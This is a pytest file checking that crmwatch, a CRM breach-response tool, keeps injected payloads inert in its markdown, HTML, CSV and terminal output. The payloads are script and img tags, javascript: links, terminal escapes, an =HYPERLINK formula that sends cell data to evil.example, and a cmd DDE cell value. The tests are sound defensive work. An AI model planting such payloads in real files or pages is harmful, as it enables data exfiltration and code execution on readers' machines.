"""Hostile data stays data through the whole chain (issue 19): payloads in log user names, app
names, user agents, SOQL, snapshot ids and fields and the org file go through ingest → detect →
incidents → scope → notify. No output file or terminal line carries one in a form its reader
would execute, and the store holds only crmwatch's own tables."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crmwatch.cli import app
from crmwatch.markup import csv_cell, markdown
from crmwatch.schema import TABLES
from crmwatch.store import Store
from tests.breach import ANNA, APP, SNAPSHOT, api, write_breach

runner = CliRunner()
SCRIPT = "<script>alert(1)</script>"
LINK = "[click](javascript:alert(1))"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OSC = "\x1b]0;pwned\x07"
EVIL_APP = f"My Ticket Portal {SCRIPT}{LINK} {FORMULA} [bold red]x[/] {OSC}"
EVIL_USER = f"anna{OSC}<img src=x onerror=alert(1)>@maison.example"
EVIL_ID = "=cmd|' /C calc'!A0"


def _hostile_breach(root: Path) -> tuple[Path, Path, Path]:
    """The shared breach with payloads written into it: logs, snapshot, org file."""
    logs = write_breach(root / "logs")
    for f in logs.glob("*.json"):
        text = f.read_text()
        text = text.replace(json.dumps(APP)[1:-1], json.dumps(EVIL_APP)[1:-1])
        text = text.replace(ANNA, json.dumps(EVIL_USER)[1:-1])
        text = text.replace("Chrome 125", json.dumps(f"Chrome 125 {SCRIPT} {OSC}")[1:-1])
        f.write_text(text)
    # an export the log names only by its object, and that object name is a payload
    body = json.loads((logs / "ApiEvent.json").read_text())
    export = api(90, "2025-06-10T09:40:00.000+0000", "SELECT Id FROM Contact", 7)
    export.update(Query=None, QueriedEntities=f"Contact{OSC}{LINK}[link=x]y[/link]")
    body["records"].append(export)
    (logs / "ApiEvent.json").write_text(json.dumps(body))
    snap = shutil.copytree(SNAPSHOT, root / "snapshot")
    contact = snap / "Contact.csv"
    rows = list(csv.reader(contact.open(encoding="utf-8", newline="")))
    header = rows[0]
    # a Japanese customer, whom the replayed Bulk API export exposes
    evil = list(next(r for r in rows[1:] if r[header.index("MailingCountry")] == "JP"))
    evil[header.index("Id")] = EVIL_ID
    evil[header.index("FirstName")] = SCRIPT
    evil[header.index("Email")] = "+evil@example.com"
    with contact.open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerow(evil)
    org = root / "org.toml"
    org.write_text(
        '[controller]\nname = "Maison <b>x</b>"\n[response]\n'
        f"measures_taken = [{json.dumps(LINK + ' ' + SCRIPT + OSC + chr(0x202E))}]\n",
        encoding="utf-8",
    )
    return logs, snap, org


@pytest.fixture(scope="module")
def chain(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("hostile")
    logs, snap, org = _hostile_breach(root)
    db = str(root / "s.duckdb")
    out = root / "package"
    terminal = [runner.invoke(app, ["ingest", str(logs), "--db", db])]
    terminal.append(runner.invoke(app, ["detect", "--db", db]))
    terminal.append(runner.invoke(app, ["incidents", "--db", db]))
    listed = json.loads(runner.invoke(app, ["incidents", "--db", db, "--json"]).stdout)
    iid = next(i["id"] for i in listed if EVIL_USER in i["principals"])
    terminal.append(runner.invoke(app, ["incident", "show", iid, "--db", db]))
    terminal.append(runner.invoke(app, ["scope", iid, "--customers", str(snap), "--db", db]))
    terminal.append(runner.invoke(app, ["notify", iid, "--aware-at", "2025-06-11T09:00:00Z",
                                        "--out", str(out), "--org", str(org), "--db", db]))  # fmt: skip
    return {"db": db, "out": out / iid, "terminal": terminal, "iid": iid}


def test_every_command_succeeds_and_prints_no_control_character(chain):
    for res in chain["terminal"]:
        assert res.exit_code == 0, res.output
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", res.stdout), res.stdout


def test_the_payloads_reached_the_outputs(chain):
    """Otherwise the checks below prove nothing."""
    drafts = "".join(p.read_text(encoding="utf-8") for p in (chain["out"] / "regulator").glob("*"))
    assert markdown(EVIL_APP) in drafts  # the app name, inert
    with (chain["out"] / "mailing_list.csv").open(encoding="utf-8", newline="") as fh:
        ids = {r["customer_id"] for r in csv.DictReader(fh)}
    assert csv_cell(EVIL_ID) in ids
    with Store(Path(chain["db"])) as store:
        assert store.scalar("SELECT count(*) FROM events WHERE user_name = ?", [EVIL_USER]) > 0


def test_markdown_files_hold_no_html_link_or_control_character(chain):
    for path in chain["out"].rglob("*.md"):
        text = path.read_text(encoding="utf-8")
        assert "<script" not in text and "<img" not in text and "<b>" not in text, path
        assert not re.search(r"(?<!\\)\]\(javascript", text), path
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f]", text), path


def test_html_letters_hold_no_markup_or_control_character_from_data(chain):
    for path in (chain["out"] / "letters").glob("*.html"):
        text = path.read_text(encoding="utf-8")
        assert "<script" not in text and "<b>" not in text, path
        assert "&lt;b&gt;" in text  # the org name, escaped
        assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e]", text), path


def test_no_csv_cell_starts_a_formula(chain):
    with (chain["out"] / "mailing_list.csv").open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_store_holds_only_crmwatchs_tables(chain):
    with Store(Path(chain["db"])) as store:
        tables = {r[0] for r in store.execute("SELECT table_name FROM duckdb_tables()").rows}
    assert tables <= set(TABLES), tables - set(TABLES)


def test_csv_cell_and_markdown_are_inert_for_every_starting_character():
    for start in ("=", "+", "-", "@", "  =", "\uff1d", "|"):
        assert csv_cell(start + "1+1").startswith("'"), start
    for start in ("\t", "\r"):  # shown as \x09, \x0d: nothing left to evaluate
        assert csv_cell(start + "=1").startswith("\\x0"), start
    assert csv_cell("\x00=1") == "\\x00=1" and csv_cell("\n=1") == "\\x0a=1"
    assert csv_cell("003000000000001AAA") == "003000000000001AAA" and csv_cell(7) == 7
    text = markdown("# h\n<b>x</b> [a](b) *c* `d` | e \x1b")
    assert "\n" not in text and "<" not in text and "\x1b" not in text
    assert text.startswith("\\#") and "\\[a\\](b)" in text and "\\*c\\*" in text
